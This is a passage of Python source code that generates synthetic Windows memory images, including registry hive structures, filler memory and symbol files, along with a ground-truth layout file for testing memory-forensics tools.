        else:
            self.kwrite(vad_root, struct.pack("<Q", _canon(vad)))  # Root

    # registry ---------------------------------------------------------------------------------------
    def hives(self) -> None:
        lay = self.lay
        head = self.kbase + self.symbols["CmpHiveListHead"]
        cmhives = []
        for index, (short, root) in enumerate((("SYSTEM", system_hive(self.sc)), ("SOFTWARE", software_hive(self.sc)))):
            base_block, bins = serialize_hive(root, f"\\SystemRoot\\System32\\Config\\{short}", _filetime(self.sc.boot))
            cm_size = lay.size("_CMHIVE")
            alloc = self.pool.take(0x10 + cm_size, PAGE)
            self.kwrite(alloc, struct.pack("<BBBB4sQ", 0, 0, min((0x10 + cm_size) // 16, 0xFF), 3, b"CM10", 0))
            cm = alloc + 0x10
            self.kwrite(cm, bytes(cm_size))
            self.kput("_HHIVE", cm, "Signature", "<I", 0xBEE0BEE0)
            self.kput("_HHIVE", cm, "Version", "<I", 5)
            bb = self.pool.take(PAGE, PAGE)
            self.kwrite(bb, base_block)
            self.kput("_HHIVE", cm, "BaseBlock", "<Q", _canon(bb))
            if self.sc.hive_user_space:
                bins_va, bins_dtb, user = 0x0000020000000000 + index * 0x10000000, self.process_dtbs[92], True
            else:
                bins_va, bins_dtb, user = 0xFFFFF8A000100000 + index * 0x1000000, KERNEL_DTB, False
            self.mem.write(bins_dtb, bins_va, bins, user)
            table = self.pool.take(lay.size("_HMAP_TABLE"), PAGE)
            self.kwrite(table, bytes(lay.size("_HMAP_TABLE")))
            entry_size = lay.size("_HMAP_ENTRY")
            bin_start = 0
            for page in range(len(bins) // PAGE):
                offset = page * PAGE
                if bins[offset:offset + 4] == b"hbin":
                    bin_start = offset
                entry = table + page * entry_size
                if self.win7:
                    self.kwrite(entry, struct.pack("<QQ", _canon(bins_va + offset), _canon(bins_va + bin_start) | 1))
                else:
                    self.kwrite(entry, struct.pack("<QQ", offset - bin_start, _canon(bins_va + bin_start) | 0x8))
            directory = self.pool.take(lay.size("_HMAP_DIRECTORY"), PAGE)
            self.kwrite(directory, bytes(lay.size("_HMAP_DIRECTORY")))
            self.kwrite(directory, struct.pack("<Q", _canon(table)))
            storage = cm + lay.off("_HHIVE", "Storage")
            self.kwrite(storage + lay.off("_DUAL", "Length"), struct.pack("<I", len(bins)))
            self.kwrite(storage + lay.off("_DUAL", "Map"), struct.pack("<Q", _canon(directory)))
            self.kstring(cm + lay.off("_CMHIVE", "FileFullPath"), f"\\SystemRoot\\System32\\Config\\{short}")
            self.kstring(cm + lay.off("_CMHIVE", "FileUserName"), f"\\??\\C:\\Windows\\System32\\config\\{short}")
            self.kstring(cm + lay.off("_CMHIVE", "HiveRootPath"), f"\\REGISTRY\\MACHINE\\{short}")
            cmhives.append(cm)
            self.truth["hives"].append({"name": f"\\SystemRoot\\System32\\Config\\{short}", "cmhive": _canon(cm),
                                        "bins_size": len(bins)})
        ring = [head] + [cm + lay.off("_CMHIVE", "HiveList") for cm in cmhives]
        for i, entry in enumerate(ring):
            self.kwrite(entry, struct.pack("<QQ", _canon(ring[(i + 1) % len(ring)]), _canon(ring[i - 1])))

    # filler and finish ----------------------------------------------------------------------------
    def filler(self, size: int) -> None:
        """Fill memory up to ``size`` with deterministic noise mapped as kernel paged pool."""
        rng = random.Random(f"{self.sc.name}-filler")
        va = 0xFFFFB00000000000
        while self.mem.used + PAGE * 2 < size:
            chunk = min(0x100000, size - self.mem.used - PAGE * 2) // PAGE * PAGE
            if chunk <= 0:
                break
            self.mem.write(KERNEL_DTB, va, rng.randbytes(chunk))
            va += chunk

    def finish(self, size: int | None) -> bytes:
        kernel_half = self.mem.data[KERNEL_DTB + 256 * 8:KERNEL_DTB + PAGE]
        for pid, dtb in self.process_dtbs.items():
            if dtb != KERNEL_DTB:
                self.mem.put(dtb + 256 * 8, bytes(kernel_half))
                self.mem.put(dtb + SELF_MAP_INDEX * 8, struct.pack("<Q", dtb | 0x63))
        end = max(self.mem.used, size or 0)
        end = (end + 0x3FFFFF) // 0x400000 * 0x400000
        return bytes(self.mem.data[:end]).ljust(end, b"\0")


def build_memory_image(out_dir, scenario: str = "win10", n_extra_processes: int = 0, size_mb: int | None = None,
                       compress_symbols: bool = True, scm_records: bool = True) -> dict:
    """Write ``image.raw``, the ISF under ``symbols/`` and ``layout.json`` (ground truth) into ``out_dir``.
    ``scm_records=False`` leaves out the Service Control Manager's records (as when services.exe's heap is paged out)."""
    out = Path(out_dir)
    sc = SCENARIOS[scenario]()
    procs = list(sc.processes) + _extra_processes(sc, n_extra_processes)
    builder = _Builder(sc)
    builder.kernel()
    builder.processes(procs)
    if scm_records:
        builder.services(procs)
    builder.hives()
    if size_mb:
        builder.filler(size_mb * 0x100000)
    image_bytes = builder.finish(size_mb * 0x100000 if size_mb else None)
    out.mkdir(parents=True, exist_ok=True)
    image = out / "image.raw"
    image.write_bytes(image_bytes)
    symbols = out / "symbols"
    isf_dir = symbols / "windows" / "ntkrnlmp.pdb"
    isf_dir.mkdir(parents=True, exist_ok=True)
    isf_text = json.dumps(_isf(builder.lay, sc, builder.symbols), indent=1, sort_keys=True).encode()
    name = f"{sc.pdb_guid.hex.upper()}-{sc.pdb_age}.json"
    if compress_symbols:
        (isf_dir / (name + ".xz")).write_bytes(lzma.compress(isf_text, preset=6))
    else:
        (isf_dir / name).write_bytes(isf_text)
    truth = dict(builder.truth, dtb=KERNEL_DTB, kernel_base=sc.kernel_base & 0xFFFFFFFFFFFF,
                 pdb={"name": "ntkrnlmp.pdb", "guid": sc.pdb_guid.hex.upper(), "age": sc.pdb_age},
                 volatility=VOLATILITY_VERSION, image_size=len(image_bytes))
    layout = out / "layout.json"
    layout.write_text(json.dumps(truth, indent=1, sort_keys=True))
    return {"image": image, "symbols": symbols, "layout": layout}


if __name__ == "__main__":
    args = sys.argv[1:]
    if not args:
        print("usage: python -m test_images.memimage OUT_DIR [win10|win7] [EXTRA_PROCESSES] [SIZE_MB]")
        sys.exit(2)
    result = build_memory_image(args[0], args[1] if len(args) > 1 else "win10",
                                int(args[2]) if len(args) > 2 else 0, int(args[3]) if len(args) > 3 else None)
    print(json.dumps({k: str(v) for k, v in result.items()}))
